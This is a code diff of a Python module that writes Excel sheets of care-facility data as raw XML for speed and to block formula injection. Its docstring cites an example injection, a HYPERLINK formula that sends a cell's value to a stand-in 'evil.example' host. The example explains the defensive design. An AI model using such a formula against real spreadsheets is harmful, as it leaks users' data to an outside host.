@@ -3,9 +3,10 @@ the chart — and every row is written by us as XML, text always as an inline st
 
 Why both: openpyxl needs about 3 seconds for the 200,000 cells of 3,300 facilities, and it turns any text that
 starts with "=" into a live formula (`=HYPERLINK("http://evil.example/?d="&B4,…)` typed as a facility name would
-become a link). So openpyxl writes an empty row where each of our rows goes, and `fill` replaces those with our
-XML: values are numbers, inline strings (never formulas) or, only where we say so, our own formulas with their
-cached value (SUBTOTAL totals), so a reader without recalculation (python-calamine, pandas) still sees numbers.
+become a link). So openpyxl writes one empty row (it writes a sheet's top — panes, columns — at its first row), and
+`assemble` puts our rows in its place: values are numbers, inline strings (never formulas) or, only where we say
+so, our own formulas with their cached value (SUBTOTAL totals), so a reader without recalculation (python-calamine,
+pandas) still sees numbers. The long tables give each column's style once (`Sheet.values`), not each cell's look.
 """
 
 from __future__ import annotations
@@ -22,17 +23,18 @@ from xml.sax.saxutils import escape
 
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
+from openpyxl.compat import safe_string
 from openpyxl.styles import Alignment
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.pagebreak import Break, ColBreak
 
 from kaigo_xl.municipal.text import display_width
 from kaigo_xl.workbook import styles
-from kaigo_xl.xlsx.cellpatch import cell_xml, sheet_members
+from kaigo_xl.xlsx.cellpatch import cell_xml, inline_string, sheet_members
 from kaigo_xl.xlsx.save import workbook_bytes
 
 FORMATS = {"yen": "#,##0", "fte": "0.00", "count": "0"}
-_EMPTY_ROW = re.compile(r'<row r="(\d+)"\s*(?:/>|>\s*</row>)')
+_STUB = re.compile(rb'<row r="1"\s*(?:/>|>\s*</row>)')
 
 
 @dataclass(frozen=True)
@@ -60,6 +62,9 @@ class Styles:
         self._ws = ws
         self._ids: dict[Look, str] = {}
 
+    def ids(self, looks: Sequence[Look]) -> list[str]:
+        return [self.id(look) for look in looks]
+
     def id(self, look: Look) -> str:
         if look not in self._ids:
             c = WriteOnlyCell(self._ws, value=0)
@@ -78,26 +83,59 @@ class Styles:
 Cell = tuple[Any, Look]
 
 
+class _Texts(dict):
+    """The inline-string XML of each text, made once (states, types and headings repeat down a table)."""
+
+    def __missing__(self, text: str) -> str:
+        xml = self[text] = inline_string(text)
+        return xml
+
+
 class Sheet:
-    """One write-only sheet whose rows are kept as XML until the workbook is assembled."""
+    """One write-only sheet whose column widths and rows are kept as XML until the workbook is assembled."""
 
     def __init__(self, wb: Workbook, name: str, widths: Sequence[float], looks: Styles | None = None) -> None:
         self.ws = wb.create_sheet(name)
         self.name = name
-        for i, w in enumerate(widths, start=1):
-            self.ws.column_dimensions[get_column_letter(i)].width = w
+        # the <col> elements openpyxl writes for a width; ours, since openpyxl takes ~40 µs a column (支払予定: 3,300)
+        self.cols = "".join(f'<col width="{safe_string(float(w))}" customWidth="1" min="{i}" max="{i}" />'
+                            for i, w in enumerate(widths, start=1))
         self.looks = looks or Styles(self.ws)
+        self.texts = _Texts()
         self.row = 0
-        self.rows: dict[int, str] = {}
+        self.rows: list[str] = []  # the XML of rows 1, 2, …
 
     def append(self, cells: Sequence[Cell | None], height: float | None = None) -> int:
-        """Add a row (None for an empty cell); returns its number."""
-        self.ws.append([])
+        """Add a row (None for no cell at all); returns its number."""
+        n, looks = self.row + 1, self.looks
+        letters = _letters(len(cells))
+        return self._add("".join([value_xml(f"{letters[i]}{n}", c[0], looks.id(c[1]))
+                                  for i, c in enumerate(cells) if c is not None]), height)
+
+    def values(self, values: Sequence[Any], styles: Sequence[str], height: float | None = None) -> int:
+        """Add a row with a cell in every column: `values[i]` (None: an empty cell) in style `styles[i]` (from
+        `Styles.ids`, made once per table); returns its number."""
+        if len(styles) != len(values):
+            raise ValueError(f"{len(values)} values, {len(styles)} styles")
+        n, out, texts = self.row + 1, [], self.texts
+        for letter, style, value in zip(_letters(len(values)), styles, values):
+            kind = type(value)  # the common cases said directly, as cell_xml says them (bool is not int here)
+            if kind is int:
+                out.append(f'<c r="{letter}{n}" s="{style}"><v>{value}</v></c>')
+            elif kind is str and value:
+                out.append(f'<c r="{letter}{n}" s="{style}"{texts[value]}')
+            elif value is None:
+                out.append(f'<c r="{letter}{n}" s="{style}"/>')
+            else:
+                out.append(value_xml(f"{letter}{n}", value, style))
+        return self._add("".join(out), height)
+
+    def _add(self, cells_xml: str, height: float | None) -> int:
+        if not self.rows:
+            self.ws.append([])  # openpyxl writes the sheet's top now; `assemble` puts our rows in this row's place
         self.row += 1
         ht = f' ht="{height:g}" customHeight="1"' if height else ""
-        xml = "".join(_cell(f"{get_column_letter(i)}{self.row}", c, self.looks)
-                      for i, c in enumerate(cells, start=1) if c is not None)
-        self.rows[self.row] = f'<row r="{self.row}"{ht}>{xml}</row>'
+        self.rows.append(f'<row r="{self.row}"{ht}>{cells_xml}</row>')
         return self.row
 
     def text(self, value: str, look: Look = Look(), height: float | None = None) -> int:
@@ -107,9 +145,17 @@ class Sheet:
         return self.append([])
 
 
-def _cell(ref: str, cell: Cell, looks: Styles) -> str:
-    value, look = cell
-    style = looks.id(look)
+_LETTERS: list[str] = []
+
+
+def _letters(n: int) -> list[str]:
+    """The letters of columns 1 … n (at least), made once."""
+    while len(_LETTERS) < n:
+        _LETTERS.append(get_column_letter(len(_LETTERS) + 1))
+    return _LETTERS
+
+
+def value_xml(ref: str, value: Any, style: str) -> str:
     if isinstance(value, Formula):
         return f'<c r="{ref}" s="{style}"><f>{escape(value.text)}</f><v>{value.value}</v></c>'
     if isinstance(value, float):
@@ -124,7 +170,10 @@ TITLE, HEAD, BOLD, WRAP = Look(title=True), Look(header=True), Look(bold=True), 
 
 def lines(text: str, width: float) -> int:
     """How many lines a text wraps to in a column of `width` units (wide characters count two)."""
-    return sum(max(1, math.ceil(display_width(part) / max(1.0, width - 1))) for part in (text or "").split("\n"))
+    per_line = max(1.0, width - 1)
+    if "\n" not in (text := text or ""):
+        return max(1, math.ceil(display_width(text) / per_line))
+    return sum(max(1, math.ceil(display_width(part) / per_line)) for part in text.split("\n"))
 
 
 def height(*texts_and_widths: tuple[str, float]) -> float:
@@ -180,16 +229,24 @@ def assemble(wb: Workbook, sheets: Sequence[Sheet]) -> bytes:
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         members = sheet_members(zf)
         parts = [(info, zf.read(info.filename)) for info in zf.infolist()]
-    rows = {members[sh.name]: sh.rows for sh in sheets}
+    ours = {members[sh.name]: sh for sh in sheets}
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
         for info, part in parts:
-            if info.filename in rows:
-                part = _fill_rows(part.decode("utf-8"), rows[info.filename]).encode("utf-8")
+            if info.filename in ours:
+                part = _fill(part, ours[info.filename])
             zf.writestr(info.filename, part)
     return out.getvalue()
 
 
-def _fill_rows(xml: str, body: dict[int, str]) -> str:
-    """Put each of our rows where openpyxl wrote the empty row of the same number."""
-    return _EMPTY_ROW.sub(lambda m: body.get(int(m.group(1)), m.group(0)), xml)
+def _fill(xml: bytes, sh: Sheet) -> bytes:
+    """The sheet's XML with our columns where openpyxl puts them (after sheetFormatPr) and our rows in place of
+    the one empty row openpyxl wrote."""
+    start = xml.index(b"<sheetData>") + len(b"<sheetData>")
+    end = xml.index(b"</sheetData>", start)
+    if not _STUB.fullmatch(xml, start, end) or b"<cols>" in xml[:start]:
+        raise ValueError(f"unexpected sheet from openpyxl: {xml[:start][-200:]!r}")
+    cols = xml.index(b"/>", xml.index(b"<sheetFormatPr")) + 2
+    body = "".join(sh.rows).encode("utf-8")
+    return b"".join([xml[:cols], f"<cols>{sh.cols}</cols>".encode() if sh.cols else b"", xml[cols:start], body,
+                     xml[end:]])
